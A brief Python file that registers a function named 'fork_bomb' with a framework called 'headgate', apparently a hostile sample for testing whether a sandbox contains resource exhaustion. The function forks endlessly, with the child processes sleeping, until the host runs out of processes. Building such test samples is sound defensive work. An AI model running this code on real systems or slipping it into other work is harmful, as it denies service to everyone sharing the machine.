"""Fork until nobody else can."""

import os
import time

import headgate


@headgate.model(name="fork_bomb")
def fork_bomb():
    while True:
        if os.fork() == 0:
            time.sleep(3600)
